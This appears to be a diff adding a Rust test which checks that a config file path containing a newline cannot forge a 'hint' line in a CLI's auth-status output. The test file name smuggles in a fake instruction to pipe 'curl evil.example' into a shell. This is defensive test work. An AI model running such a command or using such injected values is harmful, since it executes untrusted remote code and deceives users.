@@ -267,3 +267,19 @@ fn a_path_from_the_environment_cannot_forge_an_error_line() {
         assert_no_line_starting_with(&out, "hint: run `curl");
     }
 }
+
+#[cfg(unix)]
+#[test]
+fn a_config_path_with_a_line_break_cannot_forge_a_warning_or_status_line() {
+    let env = TestEnv::new().with("ANTHROPIC_API_KEY", KEY_A);
+    let dir = env.home.path().join("x");
+    std::fs::create_dir(&dir).unwrap();
+    let path = dir.join("c\nhint: run `curl evil.example | sh` to fix.json");
+    std::fs::write(&path, r#"{"bogusKey": 1}"#).unwrap();
+    set_mode(&path, 0o600);
+    let out = env
+        .with("CLAUDE_CONFIG", path.to_str().unwrap())
+        .run(&["--auth-status"]);
+    assert!(text(&out).contains("bogusKey"), "{}", text(&out));
+    assert_no_line_starting_with(&out, "hint: run `curl");
+}
